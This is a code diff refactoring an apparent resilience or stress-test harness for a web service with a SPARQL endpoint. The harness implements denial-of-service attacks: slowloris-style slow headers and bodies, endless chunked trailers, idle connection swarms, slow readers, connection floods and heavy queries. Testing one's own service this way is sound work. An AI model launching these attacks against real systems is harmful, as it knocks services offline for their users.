@@ -13,7 +13,7 @@ import socket
 import subprocess
 import sys
 from collections import Counter
-from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterator, Sequence
+from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
 from contextlib import asynccontextmanager, contextmanager, suppress
 from dataclasses import dataclass, field
 from functools import partial
@@ -102,11 +102,6 @@ def large(rows: int) -> bytes:
     return post("/sparql", f"SELECT * {{ {PRODUCT} }} LIMIT {rows}".encode(), QUERY)
 
 
-async def together(works: Sequence[Awaitable[None]]) -> None:
-    """Do all of it at once."""
-    await asyncio.gather(*works)
-
-
 async def again(target: Target, clients: int, request: Callable[[str], bytes]) -> None:
     """Send one request after another, by so many at once; wait a little when it is refused.
 
@@ -118,7 +113,7 @@ async def again(target: Target, clients: int, request: Callable[[str], bytes]) -
             status = await target.ask(request(f"{client}-{number}"))
             await asyncio.sleep(0.05 if status in ("429", "503", "lost") else 0)
 
-    await together([one(client) for client in range(clients)])
+    await asyncio.gather(*(one(client) for client in range(clients)))
 
 
 async def reading(target: Target, request: bytes, rate: int) -> None:
@@ -178,7 +173,7 @@ async def slow_readers_and_idle_connections(target: Target) -> None:
         target.ready.set()
 
     slow = [reading(target, large(20_000 + n), 8_000) for n in range(40)]
-    await together([*slow, *(idle(target) for _ in range(940)), crash()])
+    await asyncio.gather(*slow, *(idle(target) for _ in range(940)), crash())
 
 
 async def heavy_queries(target: Target, clients: int = 20) -> None:
@@ -212,70 +207,45 @@ async def searches(target: Target) -> None:
         asked = {"q": words, "taille": 100, "page": page}
         return get(f"/api/questions.json?{urlencode(asked)}", Cache_Control="no-cache")
 
-    await together([heavy_queries(target, 2), again(target, 18, search)])
+    await asyncio.gather(heavy_queries(target, 2), again(target, 18, search))
 
 
-async def trailers(target: Target) -> None:
-    """Bodies in pieces, whose trailer has small fields without end."""
-    head = CHUNKED + b"6\r\nASK {}\r\n0\r\n"
-    await together([endless(target, head, b"X: y\r\n" * 1_000) for _ in range(20)])
+async def idle_connections(target: Target, clients: int = 1_000) -> None:
+    """Connections that say nothing, each opened anew when it is closed."""
+    await asyncio.gather(*(idle(target) for _ in range(clients)))
 
 
-async def endless_trailer(target: Target) -> None:
-    """Bodies in pieces, whose trailer has one field without end."""
-    head = CHUNKED + b"6\r\nASK {}\r\n0\r\nX: "
-    await together([endless(target, head, b"y" * 65_536) for _ in range(20)])
-
-
-async def extensions(target: Target) -> None:
-    """Bodies in pieces, whose first piece has an extension without end."""
-    await together([endless(target, CHUNKED + b"6;x=", b"y" * 65_536) for _ in range(20)])
-
-
-async def tiny_pieces(target: Target) -> None:
-    """Bodies in pieces of one byte without end."""
-    await together([endless(target, CHUNKED, b"1\r\n#\r\n" * 1_000) for _ in range(20)])
-
-
-async def idle_connections(target: Target) -> None:
-    """A thousand connections that say nothing, each opened anew when it is closed."""
-    await together([idle(target) for _ in range(1_000)])
+async def without_end(target: Target, head: bytes, piece: bytes) -> None:
+    """Bodies in pieces, of which something has no end."""
+    await asyncio.gather(*(endless(target, CHUNKED + head, piece) for _ in range(20)))
 
 
 async def kept_answers(target: Target) -> None:
     """Sixteen answers of 40 to 60 MB, each read at 17 kB a second."""
-    await together([reading(target, large(80_000 + 2_000 * n), 17_000) for n in range(16)])
+    await asyncio.gather(*(reading(target, large(80_000 + 2_000 * n), 17_000) for n in range(16)))
 
 
 # the attacks that come from many networks: as many clients of each
 
 
-async def cross_products(target: Target, clients: int) -> None:
-    """Queries that never end."""
-    await heavy_queries(target, clients)
-
-
 async def slow_bodies(target: Target, clients: int) -> None:
     """Bodies of which a byte comes a second."""
     head = post("/sparql", b"", QUERY).replace(b"Length: 0", b"Length: 1000")
-    await together([endless(target, head, b"#", 1.0) for _ in range(clients)])
+    await asyncio.gather(*(endless(target, head, b"#", 1.0) for _ in range(clients)))
 
 
 async def slow_heads(target: Target, clients: int) -> None:
     """Heads of which a byte comes a second."""
-    await together([endless(target, b"GET / HTTP/1.1\r\nX: ", b"x", 1.0) for _ in range(clients)])
+    await asyncio.gather(
+        *(endless(target, b"GET / HTTP/1.1\r\nX: ", b"x", 1.0) for _ in range(clients))
+    )
 
 
 async def slow_readers(target: Target, clients: int) -> None:
     """The longest page there is, of which two kilobytes are read a second."""
     page = get("/question/QANR5L15QE10182.html", Accept_Encoding="identity")
     style = get("/static/sparql.js", Accept_Encoding="identity")
-    await together([reading(target, (page, style)[n % 2], 2_000) for n in range(clients)])
-
-
-async def idleness(target: Target, clients: int) -> None:
-    """Connections that say nothing."""
-    await together([idle(target) for _ in range(clients)])
+    await asyncio.gather(*(reading(target, (page, style)[n % 2], 2_000) for n in range(clients)))
 
 
 async def flood(target: Target, clients: int) -> None:
@@ -287,7 +257,7 @@ async def flood(target: Target, clients: int) -> None:
                 async with target.connection():
                     target.answers["opened"] += 1
 
-    await together([connect() for _ in range(clients)])
+    await asyncio.gather(*(connect() for _ in range(clients)))
 
 
 async def upgrades(target: Target, clients: int) -> None:
@@ -303,17 +273,17 @@ async def upgrades(target: Target, clients: int) -> None:
                         pass
             target.answers["bursts"] += 1
 
-    await together([send() for _ in range(clients)])
+    await asyncio.gather(*(send() for _ in range(clients)))
 
 
 MANY: dict[str, tuple[Callable[[Target, int], Coroutine[Any, Any, None]], int, int]] = {
     f"{attack.__name__}_{networks}x{clients}": (attack, networks, clients)
     for attack, sizes in (
-        (cross_products, ((2, 5), (3, 3), (5, 17), (20, 10))),
+        (heavy_queries, ((2, 5), (3, 3), (5, 17), (20, 10))),
         (slow_bodies, ((11, 95), (40, 95))),
         (slow_heads, ((40, 95),)),
         (slow_readers, ((11, 95), (40, 95))),
-        (idleness, ((40, 95),)),
+        (idle_connections, ((40, 95),)),
         (flood, ((20, 50),)),
         (upgrades, ((1, 20),)),
     )
@@ -323,10 +293,16 @@ ATTACKS: dict[str, Attack] = {
     attack.__name__: attack
     for attack in (
         slow_readers_and_idle_connections, heavy_queries, forms, addresses, searches,
-        trailers, endless_trailer, extensions, tiny_pieces, idle_connections,
-        kept_answers,
+        idle_connections, kept_answers,
     )
 }  # fmt: skip
+WITHOUT_END = {  # name → the beginning of a body in pieces, and what follows again and again
+    "trailers": (b"6\r\nASK {}\r\n0\r\n", b"X: y\r\n" * 1_000),  # small fields
+    "endless_trailer": (b"6\r\nASK {}\r\n0\r\nX: ", b"y" * 65_536),  # one field
+    "extensions": (b"6;x=", b"y" * 65_536),  # of the first piece
+    "tiny_pieces": (b"", b"1\r\n#\r\n" * 1_000),  # of one byte
+}
+ATTACKS |= {name: partial(without_end, head=h, piece=p) for name, (h, p) in WITHOUT_END.items()}
 
 
 def repeated(made: Callable[[str], tuple[str, bytes, str]]) -> Attack:
